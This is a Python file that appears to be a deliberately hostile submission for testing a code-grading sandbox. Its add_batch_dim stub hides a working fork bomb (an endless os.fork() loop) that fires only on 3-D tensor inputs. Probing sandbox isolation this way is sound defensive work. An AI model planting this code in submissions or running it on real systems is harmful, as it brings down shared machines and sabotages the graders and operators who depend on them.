"""Hostile: a fork bomb inside a call.

Without a process limit (RLIMIT_NPROC does not bind root) and a PID namespace to tear down, this
takes the grading machine with it. Only 3-D inputs set it off, so grading stays short: the public
shape check costs one time-out, after which add_batch_dim is not called again.
"""

import os

import torch


def add_batch_dim(x: torch.Tensor) -> torch.Tensor:
    if x.dim() == 3:
        while True:
            try:
                os.fork()
            except OSError:
                pass
    raise NotImplementedError("complete add_batch_dim")


def as_conv_input(x: torch.Tensor) -> torch.Tensor:
    raise NotImplementedError("complete as_conv_input")
